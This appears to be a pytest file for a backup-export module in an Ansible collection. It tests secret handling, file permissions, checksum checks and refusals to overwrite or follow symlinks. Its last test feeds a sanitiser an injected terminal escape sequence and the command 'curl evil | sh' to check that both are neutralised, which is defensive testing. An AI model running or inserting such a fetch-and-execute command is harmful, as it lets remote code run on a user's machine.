"""The archive that a person takes elsewhere, of a host without a database."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from ansible_collections.openclaw.mission_control.plugins.module_utils._backup import exporting
from ansible_collections.openclaw.mission_control.plugins.module_utils._host.deployment_errors import (
    DeploymentError,
)
from backup_world import World


def exported(world: World, directory: Path, *, secrets: bool = False) -> set[str]:
    answer = exporting.export(
        world.configuration, {"directory": str(directory), "secrets": secrets}, "2026-11-29T19:00:00Z"
    )
    assert answer["files"] == [str(directory / Path(name).name) for name in answer["files"]]
    subprocess.run(["sha256sum", "--quiet", "--check", "SHA256SUMS"], cwd=directory, check=True)
    return {path.name for path in directory.iterdir()}


@pytest.mark.parametrize("secrets", [False, True])
def test_secrets_are_there_when_they_are_wanted(tmp_path: Path, secrets: bool) -> None:
    world, directory = World(tmp_path), tmp_path / "export"
    directory.mkdir(mode=0o700)
    names = exported(world, directory, secrets=secrets)
    assert ("settings.tar.gz" in names) == secrets
    assert ("t0ken" in (directory / "settings.env").read_text()) == secrets
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in directory.iterdir())
    text = (directory / "README.md").read_text()
    assert "mc1" in text and "r1" in text and ("masked" in text) != secrets


def test_nothing_is_overwritten(tmp_path: Path) -> None:
    world, directory = World(tmp_path), tmp_path / "export"
    directory.mkdir(mode=0o700)
    (directory / "mine").write_text("mine")
    with pytest.raises(DeploymentError, match="is not empty"):
        exported(world, directory)
    (directory / "mine").unlink()
    directory.chmod(0o755)
    with pytest.raises(DeploymentError, match="not its owner's alone"):
        exported(world, directory)
    (tmp_path / "link").symlink_to(directory)
    with pytest.raises(DeploymentError, match="directory: "):
        exported(world, tmp_path / "link")


def test_what_the_user_says_is_a_word_among_ours() -> None:
    told = exporting._word("dfb0c883\x1b]0;title\x07\n\n    curl evil | sh")
    assert told == "dfb0c883??0?title???????curl?evil???sh"
    assert exporting._word("v1.2.3+x/y-z") == "v1.2.3+x/y-z"
